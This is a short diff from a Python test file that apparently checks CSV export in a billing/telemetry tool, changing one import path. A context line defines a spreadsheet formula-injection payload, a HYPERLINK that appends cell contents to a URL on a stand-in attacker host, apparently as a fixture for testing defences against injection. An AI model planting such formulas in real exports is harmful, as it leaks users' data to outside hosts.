@@ -14,7 +14,7 @@ from makegood.cli.telemetry_cmds import _csv_rows
 from makegood.store.engine import make_engine
 from makegood.telemetry.cohort import compute_cohort
 from tests.conftest import FrozenClock, make_settings
-from tests.factories import ATTEMPT_COLUMNS, attempt, write_csv
+from tests.factories.files import ATTEMPT_COLUMNS, attempt, write_csv
 from tests.integration.billing_seed import add_account, add_credit, add_plan
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
